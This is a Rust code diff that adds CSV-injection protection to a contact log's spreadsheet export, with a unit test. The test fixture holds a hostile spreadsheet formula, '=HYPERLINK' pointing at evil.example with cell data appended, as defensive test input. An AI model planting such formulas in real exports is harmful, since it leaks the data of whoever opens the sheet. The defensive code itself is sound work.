@@ -183,14 +183,28 @@ fn row(c: &Contact) -> [String; 7] {
     ]
 }
 
-/// The log as CSV (RFC 4180, with a header row).
+/// `cell` as a spreadsheet will read it as text: a cell that starts with
+/// `=`, `+`, `-`, `@`, a tab or a CR is a formula to Excel, LibreOffice and
+/// Google Sheets (`=HYPERLINK(…)` in a company's name sends the sheet's data
+/// away), so it gets a `'` in front, as OWASP advises for CSV injection.
+fn as_text(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// The log as CSV (RFC 4180, with a header row), every cell text to a
+/// spreadsheet (see [`as_text`]).
 pub fn csv(log: &[Contact]) -> String {
     let mut w = ::csv::WriterBuilder::new()
         .terminator(::csv::Terminator::CRLF)
         .from_writer(Vec::new());
     w.write_record(HEADERS).expect("writes to memory");
     for c in log {
-        w.write_record(row(c)).expect("writes to memory");
+        w.write_record(row(c).map(as_text))
+            .expect("writes to memory");
     }
     String::from_utf8(w.into_inner().expect("writes to memory")).expect("UTF-8 in, UTF-8 out")
 }
@@ -283,5 +297,37 @@ mod tests {
             parsed[3][5],
             "Asked for feedback on the interview: asked | politely"
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_text() {
+        // A company named `=HYPERLINK(…)` was a live formula in the CSV.
+        let js = journals(&[
+            "company: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1, \\\"Acme\\\")\"\nrole: \"+1 role\"\ndate: 2026-11-02\nformat: \"@SUM(1)\"\ninterviewers: [\"-2+3\"]",
+        ]);
+        let mut log = log(&js, None, d("2026-11-22"), chrono_tz::UTC);
+        // Journals trim their values: tabs and CRs first, made by hand.
+        log.push(Contact {
+            employer: "\tTab Co".into(),
+            person: "\rCR".into(),
+            ..log[0].clone()
+        });
+        let parsed: Vec<Vec<String>> = ::csv::Reader::from_reader(csv(&log).as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        let (row, next) = (&parsed[0], &parsed[1]);
+        assert_eq!(row[0], "2026-11-02");
+        assert_eq!(
+            row[1],
+            "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Acme\")"
+        );
+        assert_eq!(row[2], "'+1 role");
+        assert_eq!(row[3], "'-2+3");
+        assert_eq!(row[4], "'@SUM(1)");
+        assert_eq!(row[5], "Interview for the +1 role position");
+        assert_eq!((next[1].as_str(), next[3].as_str()), ("'\tTab Co", "'\rCR"));
+        // The Markdown log is not read by spreadsheets: as written.
+        assert!(markdown(&log, None, d("2026-11-22")).contains("| =HYPERLINK("));
     }
 }
